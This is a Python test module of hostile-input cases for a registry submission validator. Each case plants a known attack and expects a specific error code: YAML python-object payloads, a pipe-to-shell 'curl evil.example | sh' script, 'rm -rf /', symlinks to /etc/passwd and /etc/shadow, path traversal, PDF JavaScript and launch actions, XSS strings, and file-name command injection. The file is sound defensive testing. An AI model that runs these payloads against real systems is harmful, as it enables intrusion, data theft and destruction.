"""The hostile-input cases: each one damages a valid synthetic registry and names the finding it must cause.

A case is (id, expected code, mutation). The mutation receives the registry root, whose first town
(`town_dir`) is a valid industry-type town in Guangzhou; it writes whatever an attacker or a careless
applicant could put into a pull request. ``code=None`` marks content that is allowed as such (the
site and the bot escape it): the case then asserts that nothing blocks and nothing is misreported.
Oversized files are sparse (`truncate`), so no case uses real disk space.
"""

from __future__ import annotations

import io
import os
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

Mutation = Callable[[Path], None]

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 20
PDF = b"%PDF-1.4\n%%EOF\n"
PDF_SCRIPT = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n"
PDF_LAUNCH = b"%PDF-1.4\n1 0 obj<</Type/Action/S/Launch/F(cmd.exe)>>endobj\n%%EOF\n"


def _ofd_bytes() -> bytes:
    """A minimal OFD package: a zip whose root holds OFD.xml."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("OFD.xml", '<?xml version="1.0"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>')
    return buffer.getvalue()


@dataclass(frozen=True)
class Case:
    id: str
    code: str | None
    mutate: Mutation
    xfail: str | None = None

    def param(self) -> object:
        marks = [pytest.mark.xfail(reason=self.xfail, strict=True)] if self.xfail else []
        return pytest.param(self, id=self.id, marks=marks)


def town_dir(root: Path, index: int = 0) -> Path:
    return sorted(root.glob("submissions/*/*/declaration.yaml"))[index].parent


def decl(root: Path) -> Path:
    return town_dir(root) / "declaration.yaml"


def report(root: Path) -> Path:
    return town_dir(root) / "report.md"


def set_field(root: Path, key: str, raw_yaml: str, *, occurrence: int = 0) -> None:
    """Replace the value of the ``occurrence``-th line ``<indent>key: ...`` with ``raw_yaml``."""
    path = decl(root)
    lines = path.read_text(encoding="utf-8").split("\n")
    hits = [i for i, line in enumerate(lines) if re.match(rf"^\s*(- )?{re.escape(key)}: ", line)]
    i = hits[occurrence]
    prefix = lines[i][: lines[i].index(f"{key}: ") + len(key) + 2]
    lines[i] = prefix + raw_yaml
    path.write_text("\n".join(lines), encoding="utf-8")


def text_field(key: str, value: str, occurrence: int = 0) -> Mutation:
    escaped = value.replace("\\", "\\\\").replace('"', '\\"')
    return lambda root: set_field(root, key, f'"{escaped}"', occurrence=occurrence)


def company_name(value: str) -> Mutation:
    """Rename the first listed company (a name inside a list item)."""

    def mutate(root: Path) -> None:
        path = decl(root)
        text = path.read_text(encoding="utf-8")
        escaped = value.replace("\\", "\\\\").replace('"', '\\"')
        new = re.sub(
            r'(?m)^(\s*- name: )".*有限公司（虚构）"$', lambda m: f'{m.group(1)}"{escaped}"', text, count=1
        )
        assert new != text
        path.write_text(new, encoding="utf-8")

    return mutate


def raw_field(key: str, raw_yaml: str) -> Mutation:
    return lambda root: set_field(root, key, raw_yaml)


def whole(content: bytes | str) -> Mutation:
    data = content.encode("utf-8") if isinstance(content, str) else content
    return lambda root: decl(root).write_bytes(data)


def reencode(encoding: str, *, bom: bytes = b"") -> Mutation:
    def mutate(root: Path) -> None:
        text = decl(root).read_text(encoding="utf-8")
        decl(root).write_bytes(bom + text.encode(encoding))

    return mutate


def append_decl(text: str) -> Mutation:
    def mutate(root: Path) -> None:
        with decl(root).open("a", encoding="utf-8") as handle:
            handle.write("\n" + text)

    return mutate


def insert_after_first_line(text: str) -> Mutation:
    def mutate(root: Path) -> None:
        head, _, tail = decl(root).read_text(encoding="utf-8").partition("\n")
        decl(root).write_text(f"{head}\n{text}\n{tail}", encoding="utf-8")

    return mutate


def report_text(text: str) -> Mutation:
    def mutate(root: Path) -> None:
        with report(root).open("a", encoding="utf-8") as handle:
            handle.write("\n" + text + "\n")

    return mutate


def report_bytes(transform: Callable[[str], bytes]) -> Mutation:
    return lambda root: report(root).write_bytes(transform(report(root).read_text(encoding="utf-8")))


def sparse(path: Path, size: int) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as handle:
        handle.truncate(size)


def attachment_bytes(data: bytes, name: str = "uscc-certificate.pdf") -> Mutation:
    return lambda root: (town_dir(root) / "attachments" / name).write_bytes(data)


def attachment_path(value: str) -> Mutation:
    return text_field("file", value)


def replace_with_symlink(rel: str, target: str) -> Mutation:
    def mutate(root: Path) -> None:
        path = town_dir(root) / rel
        if path.is_dir() and not path.is_symlink():
            for child in sorted(path.rglob("*"), reverse=True):
                child.unlink() if not child.is_dir() else child.rmdir()
            path.rmdir()
        elif path.exists() or path.is_symlink():
            path.unlink()
        path.symlink_to(target)

    return mutate


def id_number() -> str:
    """A well-formed fictional resident ID number (valid GB 11643 check character)."""
    body = "44010619900307123"
    weights = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    return body + "10X98765432"[sum(int(c) * w for c, w in zip(body, weights, strict=True)) % 11]


def _alias_bomb() -> str:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in "bcdefghi":
        previous = chr(ord(level) - 1)
        lines.append(f"{level}: &{level} [" + ",".join([f"*{previous}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def _deep_block(levels: int) -> str:
    return "".join(f"{'  ' * i}k{i}:\n" for i in range(levels)) + "  " * levels + "leaf\n"


def _mkfifo(rel: str) -> Mutation:
    def mutate(root: Path) -> None:
        path = town_dir(root) / rel
        if path.exists():
            path.unlink()
        os.mkfifo(path)

    return mutate


def _mkdir(rel: str) -> Mutation:
    def mutate(root: Path) -> None:
        path = town_dir(root) / rel
        if path.exists():
            path.unlink()
        path.mkdir()

    return mutate


def _write(rel_to_root: str, data: bytes = b"x\n") -> Mutation:
    def mutate(root: Path) -> None:
        path = root / rel_to_root
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    return mutate


def _in_town(name: str, data: bytes = b"#!/bin/sh\nrm -rf /\n") -> Mutation:
    return lambda root: (
        (town_dir(root) / name).parent.mkdir(parents=True, exist_ok=True)
        or (town_dir(root) / name).write_bytes(data)
    )


def _town_total(root: Path) -> None:
    for n in range(6):
        sparse(town_dir(root) / "attachments" / f"scan-{n}.pdf", 19 * 1024 * 1024)
        (town_dir(root) / "attachments" / f"scan-{n}.pdf").open("r+b").write(PDF)


def _oversized_attachment(root: Path) -> None:
    path = town_dir(root) / "attachments" / "uscc-certificate.pdf"
    sparse(path, 25 * 1024 * 1024)


def _symlinked_town(root: Path) -> None:
    (root / "submissions" / "guangzhou" / "evil-link").symlink_to("/etc")


def _symlinked_city(root: Path) -> None:
    (root / "submissions" / "evilcity").symlink_to("/etc")


def _remove(rel: str) -> Mutation:
    return lambda root: (town_dir(root) / rel).unlink()


YAML_CASES = [
    Case("yaml-alias-bomb", "E-YAML-002", whole(_alias_bomb())),
    Case("yaml-anchor-and-alias", "E-YAML-002", insert_after_first_line("x: &anchor 1\ny: *anchor")),
    Case("yaml-undefined-alias", "E-YAML-002", raw_field("name", "*nowhere")),
    Case("yaml-merge-key", "E-YAML-003", insert_after_first_line("<<: {district: 天河区}")),
    Case("yaml-flow-nesting-10k", "E-YAML-006", raw_field("name", "[" * 10_000 + "]" * 10_000)),
    Case(
        "yaml-flow-mapping-nesting-10k", "E-YAML-006", raw_field("name", "{a: " * 10_000 + "1" + "}" * 10_000)
    ),
    Case("yaml-block-nesting-30", "E-YAML-006", whole(_deep_block(30))),
    Case("yaml-huge-scalar", "E-YAML-011", text_field("name", "长" * 30_000)),
    Case("yaml-huge-list", "E-YAML-010", append_decl("extra_list:\n" + "  - 1\n" * 2_500)),
    Case("yaml-duplicate-top-key", "E-YAML-004", append_decl('name: "另一个名称"')),
    Case("yaml-duplicate-nested-key", "E-YAML-004", insert_after_first_line("z:\n  a: 1\n  a: 2")),
    Case("yaml-python-object", "E-YAML-005", raw_field("name", "!!python/object:os.system {}")),
    Case(
        "yaml-python-apply", "E-YAML-005", raw_field("name", '!!python/object/apply:os.system ["echo pwned"]')
    ),
    Case("yaml-python-name", "E-YAML-005", raw_field("name", "!!python/name:os.system")),
    Case("yaml-binary-tag", "E-YAML-005", raw_field("name", "!!binary aGVsbG8=")),
    Case("yaml-custom-tag", "E-YAML-005", raw_field("name", "!custom 小镇")),
    Case("yaml-tag-directive", "E-YAML-005", whole("%TAG !e! tag:example.com,2000:\n---\nname: !e!foo x\n")),
    Case("yaml-str-tag-on-number", "E-YAML-005", raw_field("fibre_mbps", "!!str 100")),
    Case("enc-gbk", "E-FILE-002", reencode("gbk")),
    Case("enc-gb18030", "E-FILE-002", reencode("gb18030")),
    Case("enc-utf16-le-bom", "E-FILE-002", reencode("utf-16-le", bom=b"\xff\xfe")),
    Case("enc-utf16-be-bom", "E-FILE-002", reencode("utf-16-be", bom=b"\xfe\xff")),
    Case("enc-utf16-no-bom", "E-FILE-003", reencode("utf-16-le")),
    Case("enc-utf32", "E-FILE-002", reencode("utf-32")),
    Case("enc-utf8-bom", "W-FILE-004", reencode("utf-8", bom=b"\xef\xbb\xbf")),
    Case(
        "bytes-nul",
        "E-FILE-003",
        lambda root: decl(root).write_bytes(decl(root).read_bytes().replace(b"\n", b"\n\x00", 1)),
    ),
    Case("bytes-binary-garbage", "E-FILE-002", whole(bytes(range(0x80, 0x100)) * 8)),
    Case("bytes-elf-as-yaml", "E-FILE-003", whole(ELF)),
    Case("bytes-control-char", "E-YAML-001", raw_field("name", '"小镇\x07名称"'.replace('"', ""))),
    Case("yaml-multiple-documents", "E-YAML-007", append_decl("---\nname: 第二个文档")),
    Case("yaml-empty", "E-YAML-009", whole(b"")),
    Case("yaml-only-comments", "E-YAML-009", whole("# 只有注释\n# 没有内容\n")),
    Case("yaml-top-level-list", "E-SCHEMA-012", whole("- a\n- b\n")),
    Case("yaml-top-level-scalar", "E-SCHEMA-012", whole("只是一行文字\n")),
    Case(
        "yaml-tab-indent",
        "E-YAML-001",
        whole("schema_version: 1\nwork_mechanism:\n\tcoordination_lead: 区长\n"),
    ),
    Case("yaml-unclosed-quote", "E-YAML-001", raw_field("name", '"没有结束的引号')),
    Case("yaml-complex-key", "E-YAML-008", insert_after_first_line("? [a, b]\n: 1")),
    Case("yaml-yes-is-not-bool", "E-SCHEMA-003", raw_field("fibre_full_coverage", "yes")),
    Case("yaml-huge-exponent", "E-SCHEMA-003", raw_field("planned_area_mu", "1e999999999")),
    Case("yaml-infinity", "E-SCHEMA-003", raw_field("planned_area_mu", ".inf")),
    Case("yaml-dunder-key", "E-SCHEMA-002", insert_after_first_line("__class__: os.system")),
    Case("yaml-long-key", "E-YAML-001", insert_after_first_line("k" * 5_000 + ": 1")),
    Case("yaml-schema-version", "E-SCHEMA-013", raw_field("schema_version", "99")),
    Case("yaml-unknown-type", "E-SCHEMA-011", raw_field("type", "malware")),
    Case("yaml-impossible-date", "E-SCHEMA-007", raw_field("filing_date", '"2018-02-30"')),
    Case("yaml-future-date", "E-LIFE-009", raw_field("filing_date", '"2099-01-01"')),
    Case("size-declaration-50mb-sparse", "E-FILE-001", lambda root: sparse(decl(root), 50 * 1024 * 1024)),
    Case("size-declaration-one-byte-over", "E-FILE-001", append_decl("# " + "x" * 262_144)),
]

FILE_CASES = [
    Case(
        "fs-declaration-symlink-passwd", "E-FILE-006", replace_with_symlink("declaration.yaml", "/etc/passwd")
    ),
    Case("fs-report-symlink-passwd", "E-FILE-006", replace_with_symlink("report.md", "/etc/passwd")),
    Case(
        "fs-attachment-symlink-passwd",
        "E-ATT-002",
        replace_with_symlink("attachments/uscc-certificate.pdf", "/etc/passwd"),
    ),
    Case(
        "fs-attachment-symlink-dev-zero",
        "E-ATT-002",
        replace_with_symlink("attachments/local-policy.pdf", "/dev/zero"),
    ),
    Case(
        "fs-attachment-symlink-other-town",
        "E-ATT-002",
        lambda root: replace_with_symlink(
            "attachments/site-plan.png", str(town_dir(root, 1) / "attachments" / "site-plan.png")
        )(root),
    ),
    Case("fs-attachments-dir-symlink-etc", "E-FILE-006", replace_with_symlink("attachments", "/etc")),
    Case(
        "fs-unreferenced-symlink",
        "E-ATT-002",
        lambda root: (town_dir(root) / "attachments" / "shadow.pdf").symlink_to("/etc/shadow"),
    ),
    Case("fs-dotdot-path", "E-ATT-003", attachment_path("attachments/../../../../etc/passwd")),
    Case("fs-dotdot-into-declaration", "E-ATT-003", attachment_path("attachments/./../declaration.yaml")),
    Case("fs-absolute-path", "E-SCHEMA-005", attachment_path("/etc/passwd")),
    Case("fs-backslash-path", "E-SCHEMA-005", attachment_path("attachments\\..\\..\\secret.pdf")),
    Case("fs-outside-town-folder", "E-SCHEMA-005", attachment_path("../other-town/attachments/a.pdf")),
    Case("fs-elf-named-pdf", "E-ATT-004", attachment_bytes(ELF)),
    Case("fs-mz-named-pdf", "E-ATT-004", attachment_bytes(MZ)),
    Case("fs-script-named-pdf", "E-ATT-004", attachment_bytes(b"#!/bin/sh\ncurl evil.example | sh\n")),
    Case("fs-html-named-pdf", "E-ATT-004", attachment_bytes(b"<html><script>alert(1)</script></html>")),
    Case(
        "fs-svg-named-png",
        "E-ATT-004",
        attachment_bytes(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "site-plan.png"),
    ),
    Case("fs-zip-named-pdf", "E-ATT-004", attachment_bytes(ZIP)),
    Case("fs-real-ofd-named-pdf", "W-ATT-005", attachment_bytes(_ofd_bytes())),
    Case("fs-pdf-with-javascript", "E-ATT-011", attachment_bytes(PDF_SCRIPT)),
    Case("fs-pdf-with-launch-action", "E-ATT-011", attachment_bytes(PDF_LAUNCH)),
    Case("fs-empty-attachment", "E-ATT-004", attachment_bytes(b"")),
    Case("fs-oversized-attachment-sparse", "E-ATT-006", _oversized_attachment),
    Case("fs-town-total-over-100mb-sparse", "E-ATT-010", _town_total),
    Case("fs-attachment-missing", "E-ATT-001", _remove("attachments/local-policy.pdf")),
    Case("fs-attachment-is-directory", "E-ATT-002", _mkdir("attachments/local-policy.pdf")),
    Case("fs-attachment-is-fifo", "E-ATT-002", _mkfifo("attachments/local-policy.pdf")),
    Case("fs-declaration-is-fifo", "E-FILE-006", _mkfifo("declaration.yaml")),
    Case("fs-declaration-is-directory", "E-FILE-006", _mkdir("declaration.yaml")),
    Case("fs-declaration-missing", "E-TOWN-001", _remove("declaration.yaml")),
    Case("fs-report-missing", "E-RPT-001", _remove("report.md")),
    Case("fs-report-oversized-sparse", "E-FILE-001", lambda root: sparse(report(root), 5 * 1024 * 1024)),
    Case("fs-report-gbk", "E-FILE-002", report_bytes(lambda text: text.encode("gbk"))),
    Case("fs-report-nul", "E-FILE-003", report_bytes(lambda text: text.encode("utf-8") + b"\x00")),
    Case("fs-executable-in-town", "E-TOWN-009", _in_town("run.sh")),
    Case("fs-workflow-in-town", "E-TOWN-009", _in_town(".github/workflows/x.yml", b"on: push\n")),
    Case("fs-loose-file-in-submissions", "E-TOWN-002", _write("submissions/README.sh")),
    Case("fs-symlinked-town-folder", "E-TOWN-002", _symlinked_town),
    Case("fs-symlinked-city-folder", "E-TOWN-002", _symlinked_city),
    Case(
        "fs-newline-in-file-name",
        "W-ATT-009",
        lambda root: (town_dir(root) / "attachments" / "a\n::error file=x::pwned.pdf").write_bytes(PDF),
    ),
]

_SCRIPT = '<script>alert("hostile")</script>'
CONTENT_CASES = [
    Case("html-script-in-name", "E-TEXT-001", text_field("name", f"云智小镇{_SCRIPT}")),
    Case("html-script-in-company", "E-TEXT-001", company_name(f"恶意{_SCRIPT}有限公司")),
    Case(
        "html-onerror-in-address", "E-TEXT-001", text_field("address", '<img src=x onerror=alert("hostile")>')
    ),
    Case(
        "html-javascript-link-in-field", "E-TEXT-001", text_field("highlights", "[详情](javascript:alert(1))")
    ),
    Case(
        "html-iframe-in-goal",
        "E-TEXT-001",
        text_field("overall_goal", '<iframe src="https://evil.example/">'),
    ),
    Case("html-svg-onload-in-project", "E-TEXT-001", text_field("description", '<svg onload="alert(1)">')),
    Case("html-bold-tag-in-field", "W-TEXT-002", text_field("leading_industry", "<b>电子信息</b>产业")),
    Case("report-script", "E-TEXT-001", report_text(_SCRIPT)),
    Case("report-onerror", "E-TEXT-001", report_text('<img src="x" onerror="alert(1)">')),
    Case(
        "report-javascript-link", "E-TEXT-001", report_text("[点击查看](javascript:alert(document.cookie))")
    ),
    Case("report-javascript-anchor", "E-TEXT-001", report_text('<a href="JavaScript:alert(1)">链接</a>')),
    Case("report-data-url", "E-TEXT-001", report_text("[x](data:text/html;base64,PHNjcmlwdD4=)")),
    Case("report-iframe", "E-TEXT-001", report_text('<iframe src="https://evil.example/"></iframe>')),
    Case("report-fake-sticky-marker", "E-TEXT-003", report_text("<!-- towns-report:v1 -->\n## 检查通过")),
    Case(
        "field-fake-sticky-marker",
        "E-TEXT-003",
        text_field("internet_development", "<!-- towns-report:v1 -->"),
    ),
    Case("report-mention", "W-TEXT-004", report_text("请 @octocat 审核")),
    Case(
        "field-team-mention", "W-TEXT-004", text_field("highlights", "抄送 @example-province/province-review")
    ),
    Case("field-bidi-override", "E-TEXT-005", text_field("name", "云智\u202e镇小\u202c")),
    Case(
        "field-line-break-in-one-line-field", "E-SCHEMA-005", raw_field("name", '"云智小镇\\n伪造的第二行"')
    ),
    Case("field-zero-width", "E-TEXT-005", text_field("district", "天\u200b河区")),
    Case("report-bidi-override", "E-TEXT-005", report_text("产值\u2067100\u2069亿元")),
    Case("privacy-id-in-name", "E-PRIV-001", text_field("head", f"王某 {id_number()}")),
    Case("privacy-id-in-report", "E-PRIV-001", report_text(f"负责人身份证：{id_number()}")),
    Case("privacy-mobile-in-address", "E-PRIV-002", text_field("address", "联系 13912345678")),
    Case("privacy-mobile-in-report", "E-PRIV-002", report_text("电话 +86 139-1234-5678")),
    Case("privacy-id-in-company-rd", "E-PRIV-001", text_field("rd_institution", f"研究院 {id_number()}")),
    Case(
        "allowed-table-breaker-in-field", None, text_field("leading_industry", "电子 | 信息 |\n| --- | --- |")
    ),
    Case("allowed-table-breaker-in-report", None, report_text("| a | b |\n| --- |\n| 1 | 2 | 3 | 4 |")),
    Case("allowed-comparison-signs", None, text_field("highlights", "占比 5<6，且 7>3")),
    Case("allowed-email-address", None, text_field("highlights", "咨询 service@example.gov.cn")),
    Case(
        "allowed-markdown-in-field",
        None,
        text_field("highlights", "**粗体** _斜体_ [链接](https://example.invalid)"),
    ),
]

CASES: list[Case] = [*YAML_CASES, *FILE_CASES, *CONTENT_CASES]
